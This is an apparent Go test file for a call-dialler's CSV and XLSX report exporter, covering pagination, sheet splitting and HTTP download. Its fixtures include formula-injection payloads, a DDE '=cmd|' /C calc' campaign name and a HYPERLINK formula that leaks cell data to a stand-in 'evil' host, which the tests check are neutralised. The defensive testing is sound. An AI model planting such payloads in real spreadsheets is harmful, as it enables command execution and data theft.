package report

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"ringback/dialler"
)

var began = time.Date(2026, 3, 12, 5, 50, 0, 0, time.UTC)

// shelf is an archive of n contacts in each of two campaigns, each of whom was
// rung once and asked for a callback. It makes its pages as they are asked for.
type shelf struct {
	n    int
	evil string // what everybody said
	fail int    // page that fails; 0: none
	read int
}

func (s *shelf) Campaigns(context.Context) ([]dialler.Campaign, error) {
	return []dialler.Campaign{{ID: 1, Name: "renewals"}, {ID: 2, Name: "=cmd|' /C calc'!A0"}}, nil
}

func (s *shelf) Campaign(ctx context.Context, id dialler.CampaignID) (dialler.Campaign, error) {
	all, err := s.Campaigns(ctx)
	if err == nil && (id < 1 || int(id) > len(all)) {
		return dialler.Campaign{}, fmt.Errorf("campaign %d: %w", id, dialler.ErrNotFound)
	}
	return all[id-1], err
}

func (s *shelf) promise(id dialler.CampaignID, i int) dialler.Callback {
	return dialler.Callback{ID: dialler.CallbackID(i), Contact: dialler.ContactID(i), Campaign: id, AskedOn: call(i), Chain: 1, Phrase: s.evil, Reason: "driving", Confidence: 0.5,
		Requested: began.Add(time.Minute), Scheduled: began.Add(time.Hour), Due: began.Add(time.Hour), Read: began, Rule: "relative", Clipped: true, State: dialler.CallbackWaiting}
}

func call(i int) dialler.CallID {
	return dialler.CallID(fmt.Sprintf("00000000-0000-4000-8000-%012d", i))
}

func number(i int) dialler.Number { return dialler.Number(fmt.Sprintf("+9198%08d", i)) }

func (s *shelf) vars() map[string]string { return map[string]string{"name": s.evil} }

// page gives the indices of a page.
func (s *shelf) page(after string, limit int) (from, to int, next string, err error) {
	if s.read++; s.read == s.fail {
		return 0, 0, "", errors.New("the store is away")
	}
	if after != "" {
		if from, err = strconv.Atoi(after); err != nil {
			return 0, 0, "", err
		}
	}
	to = min(from+limit, s.n)
	if to < s.n {
		next = strconv.Itoa(to)
	}
	return from + 1, to, next, nil
}

func (s *shelf) Attempts(_ context.Context, q dialler.RecordQuery) (out []dialler.AttemptRecord, next string, err error) {
	from, to, next, err := s.page(q.After, q.Limit)
	for i := from; i <= to && err == nil; i++ {
		cb := s.promise(q.Campaign, i)
		out = append(out, dialler.AttemptRecord{
			Attempt: dialler.Attempt{ID: call(i), Contact: dialler.ContactID(i), Campaign: q.Campaign, Run: 1, Number: number(i), N: 1, Class: dialler.ClassPending, Trunk: "carrier", Switch: "pbx", Bot: "asha", Node: "n",
				Leased: began, Outcome: dialler.Outcome{Joined: began.Add(2 * time.Second), Ended: began.Add(62500 * time.Millisecond), Disposition: dialler.Answered, Cause: dialler.Cause{Q850: 16}}},
			Vars: s.vars(), Verdict: dialler.RulingScheduled, Asked: &cb,
		})
	}
	return out, next, err
}

func (s *shelf) Promises(_ context.Context, q dialler.RecordQuery) (out []dialler.PromiseRecord, next string, err error) {
	from, to, next, err := s.page(q.After, q.Limit)
	for i := from; i <= to && err == nil; i++ {
		out = append(out, dialler.PromiseRecord{Callback: s.promise(q.Campaign, i), Number: number(i), Vars: s.vars(), Run: 1})
	}
	return out, next, err
}

func (s *shelf) Contacts(_ context.Context, id dialler.CampaignID, after dialler.ContactID, n int) (out []dialler.Contact, err error) {
	from, to, _, err := s.page(strconv.Itoa(int(after)), n)
	for i := from; i <= to && err == nil; i++ {
		ct := dialler.Contact{ID: dialler.ContactID(i), Campaign: id, Number: number(i), Vars: s.vars(), State: dialler.Pending, Added: began.Add(time.Duration(i) * time.Second)}
		if i%2 == 0 {
			cb := s.promise(id, i)
			ct.State, ct.Callback = dialler.CallbackScheduled, &cb
		}
		out = append(out, ct)
	}
	return out, err
}

// readSheets reads a workbook as far as this package writes one: every sheet,
// its rows' cells by column.
func readSheets(t *testing.T, b []byte) (names []string, sheets [][][]string) {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
	if err != nil {
		t.Fatal(err)
	}
	part := func(name string, to any) {
		f, err := z.Open(name)
		if err != nil {
			t.Fatal(err)
		}
		defer func() { _ = f.Close() }()
		if err := xml.NewDecoder(f).Decode(to); err != nil {
			t.Fatalf("%s: %v", name, err)
		}
	}
	var book struct {
		Sheets []struct {
			Name string `xml:"name,attr"`
			ID   string `xml:"http://schemas.openxmlformats.org/officeDocument/2006/relationships id,attr"`
		} `xml:"sheets>sheet"`
	}
	part("xl/workbook.xml", &book)
	type rel struct {
		ID     string `xml:"Id,attr"`
		Target string `xml:"Target,attr"`
	}
	var list struct {
		Rels []rel `xml:"Relationship"`
	}
	part("xl/_rels/workbook.xml.rels", &list)
	columns := map[string]int{}
	for i := range 60 {
		columns[column(i)] = i
	}
	for _, s := range book.Sheets {
		i := slices.IndexFunc(list.Rels, func(r rel) bool { return r.ID == s.ID })
		if i < 0 {
			t.Fatalf("sheet %s leads nowhere", s.Name)
		}
		var sheet struct {
			Rows []struct {
				Cells []struct {
					Ref  string `xml:"r,attr"`
					Type string `xml:"t,attr"`
					V    string `xml:"v"`
					Text string `xml:"is>t"`
				} `xml:"c"`
			} `xml:"sheetData>row"`
		}
		part("xl/"+list.Rels[i].Target, &sheet)
		var rows [][]string
		for n, r := range sheet.Rows {
			cells := make([]string, 60)
			for _, c := range r.Cells {
				letters, ok := strings.CutSuffix(c.Ref, strconv.Itoa(n+1))
				at, known := columns[letters]
				if !ok || !known {
					t.Fatalf("row %d has a cell %s", n+1, c.Ref)
				}
				cells[at] = c.V + c.Text
			}
			rows = append(rows, cells)
		}
		names, sheets = append(names, s.Name), append(sheets, rows)
	}
	return names, sheets
}

// Every report, in both formats: as many rows as there are, every cell under
// its head, and nothing that a spreadsheet would run.
func TestReports(t *testing.T) {
	const n = 603 // a full page and a part
	evil := "=HYPERLINK(\"http://evil/?\"&A1,\"x\")\r\n<b>&\x00\xff_x0041_"
	for _, kind := range Kinds {
		s := &shelf{n: n, evil: evil}
		var c bytes.Buffer
		if err := Write(t.Context(), s, Query{Kind: kind}, NewCSV(&c), nil); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(&c).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if len(rows) != 1+2*n {
			t.Errorf("%s: %d rows, want %d and a head", kind, len(rows), 2*n)
		}
		at := func(row []string, name string) string {
			i := slices.Index(rows[0], name)
			if i < 0 {
				t.Fatalf("%s: no column %s in %v", kind, name, rows[0])
			}
			return row[i]
		}
		numbers := map[string]int{}
		for _, r := range rows[1:] {
			numbers[at(r, "campaign_id")+at(r, "number")]++
			for i, cell := range r {
				if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r\n") && rows[0][i] != "number" {
					t.Fatalf("%s: %s is %q, which a spreadsheet runs", kind, rows[0][i], cell)
				}
			}
		}
		if len(numbers) != 2*n || numbers["1+919800000001"] != 1 {
			t.Errorf("%s: %d numbers, want each once", kind, len(numbers))
		}
		second := rows[2]
		if at(second, "number") != "+919800000002" || at(second, "campaign") != "renewals" || !strings.HasPrefix(at(second, "callback_preferred_time_text"), "'=HYPERLINK") ||
			at(second, "callback_requested_at") != "2026-03-12T05:51:00Z" || at(second, "callback_confidence") != "0.5" || at(second, "callback_clipped") != "true" || at(second, "callback_closed_at") != "" {
			t.Errorf("%s: %q", kind, second)
		}
		var vars map[string]string
		if err := json.Unmarshal([]byte(at(second, "variables")), &vars); err != nil || vars["name"] != strings.ToValidUTF8(evil, "�") {
			t.Errorf("%s: variables %s: %v", kind, at(second, "variables"), err)
		}
		if name := at(rows[n+1], "campaign"); name != "'=cmd|' /C calc'!A0" {
			t.Errorf("%s: campaign %s", kind, name)
		}

		var x bytes.Buffer
		if err := Write(t.Context(), &shelf{n: n, evil: evil}, Query{Kind: kind}, NewXLSX(&x, string(kind)), nil); err != nil {
			t.Fatal(err)
		}
		names, sheets := readSheets(t, x.Bytes())
		if fmt.Sprint(names) != "["+string(kind)+"]" || len(sheets[0]) != len(rows) {
			t.Fatalf("%s: sheets %v", kind, names)
		}
		for i, r := range rows {
			for j, cell := range r {
				got, want := sheets[0][i][j], strings.TrimPrefix(cell, "'")
				switch want {
				case "true":
					want = "1"
				case "false":
					want = "0"
				}
				if rows[0][j] == "callback_preferred_time_text" && i > 0 && want != "" {
					// XML has no NUL; a lone byte is no character; and what Excel
					// would read as an escape is escaped.
					want = "=HYPERLINK(\"http://evil/?\"&A1,\"x\")\r\n<b>&��_x005F_x0041_"
				}
				if rows[0][j] == "variables" {
					want = strings.ReplaceAll(want, "_x0041_", "_x005F_x0041_")
				}
				if got != want {
					t.Fatalf("%s: row %d, %s: the workbook has %q, want %q", kind, i, rows[0][j], got, want)
				}
			}
		}
	}
}

func TestTalkAndTimes(t *testing.T) {
	var b bytes.Buffer
	if err := Write(t.Context(), &shelf{n: 1}, Query{Kind: Attempts, Campaign: 1}, NewCSV(&b), nil); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(b.String(), ",2026-03-12T05:51:02.5Z,60.5,answered,16,,,,scheduled,,") {
		t.Error(b.String())
	}
}

func TestContactsByTime(t *testing.T) {
	var b bytes.Buffer
	q := Query{Kind: Contacts, Campaign: 1, From: began.Add(3 * time.Second), To: began.Add(700 * time.Second)}
	if err := Write(t.Context(), &shelf{n: 2000}, q, NewCSV(&b), nil); err != nil {
		t.Fatal(err)
	}
	if n := strings.Count(b.String(), "\r\n") - 1; n != 697 {
		t.Errorf("%d contacts were added in 697 seconds", n)
	}
}

func TestHarmless(t *testing.T) {
	for s, want := range map[string]string{
		"": "", "kal subah": "kal subah", "5 minutes": "5 minutes", "a=b": "a=b", "'x": "'x",
		"=1": "'=1", "+1": "'+1", "-1": "'-1", "@x": "'@x", "\tx": "'\tx", "\rx": "'\rx", "\n=1": "'\n=1", " =1": "' =1", "＝1": "'＝1", "＠x": "'＠x",
	} {
		if got := harmless(s); got != want {
			t.Errorf("%q becomes %q, want %q", s, got, want)
		}
	}
	if got := csvCell(dialler.Number("+919812345678")); got != "+919812345678" {
		t.Errorf("a number becomes %s", got)
	}
}

func TestColumns(t *testing.T) {
	for i, want := range map[int]string{0: "A", 25: "Z", 26: "AA", 51: "AZ", 52: "BA", 701: "ZZ", 702: "AAA"} {
		if got := column(i); got != want {
			t.Errorf("%d: %s, want %s", i, got, want)
		}
	}
}

// A sheet that is full is followed by another, with the head again.
func TestManySheets(t *testing.T) {
	var b bytes.Buffer
	x := NewXLSX(&b, `contacts: of/"all"`).(*xlsxTable)
	must := func(err error) {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
	}
	must(x.Row([]any{"n"}))
	must(x.Row([]any{1}))
	x.rows = maxRows
	must(x.Row([]any{strings.Repeat("x", maxCell) + "y"}))
	must(x.Close())
	names, sheets := readSheets(t, b.Bytes())
	if fmt.Sprintf("%q", names) != `["contacts  of  all " "contacts  of  all  2"]` || len(sheets[0]) != 2 || len(sheets[1]) != 2 || sheets[1][0][0] != "n" || sheets[1][1][0] != strings.Repeat("x", maxCell) {
		t.Errorf("%q, %d and %d rows", names, len(sheets[0]), len(sheets[1]))
	}
	b.Reset()
	must(NewXLSX(&b, "empty").Close())
	if _, sheets := readSheets(t, b.Bytes()); len(sheets[0]) != 0 {
		t.Error("an empty one is not")
	}
}

// Over HTTP: a file with a name; what goes wrong at the beginning is told, what
// goes wrong in the middle is seen to have.
func TestRespond(t *testing.T) {
	s := &shelf{n: 2000}
	var refused error
	server := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		kind, format, err := ParseFile(strings.TrimPrefix(r.URL.Path, "/"))
		if err == nil {
			err = Respond(w, r, s, Query{Kind: kind, Campaign: 1, From: began}, format)
		}
		if refused = err; err != nil {
			w.WriteHeader(http.StatusInternalServerError)
		}
	}))
	server.Config.WriteTimeout = time.Minute
	server.Start()
	t.Cleanup(server.Close)
	get := func(path string) (*http.Response, []byte, error) {
		resp, err := server.Client().Get(server.URL + path)
		if err != nil {
			t.Fatal(err)
		}
		defer func() { _ = resp.Body.Close() }()
		b, err := io.ReadAll(resp.Body)
		return resp, b, err
	}
	for _, f := range Formats {
		s.read, s.fail = 0, 0
		resp, b, err := get("/contacts." + string(f))
		if err != nil || resp.StatusCode != http.StatusOK || resp.Header.Get("Content-Type") != f.Type() || resp.Header.Get("Content-Disposition") != `attachment; filename="ringback-contacts-1-20260312T055000Z.`+string(f)+`"` || len(b) < 20_000 {
			t.Errorf("%s: %d %v %d bytes: %v", f, resp.StatusCode, resp.Header, len(b), err)
		}
		s.read, s.fail = 0, 3
		if resp, b, err := get("/attempts." + string(f)); err == nil {
			t.Errorf("%s: a report that broke off looks whole: %d, %d bytes", f, resp.StatusCode, len(b))
		}
		s.read, s.fail = 0, 1
		if resp, _, err := get("/callbacks." + string(f)); err != nil || resp.StatusCode != http.StatusInternalServerError || refused == nil || resp.Header.Get("Content-Disposition") != "" {
			t.Errorf("%s: what went wrong at once: %d %v %v", f, resp.StatusCode, err, refused)
		}
	}
	if _, _, err := get("/contacts.pdf"); err != nil || !errors.Is(refused, dialler.ErrNotFound) {
		t.Errorf("%v", refused)
	}
}
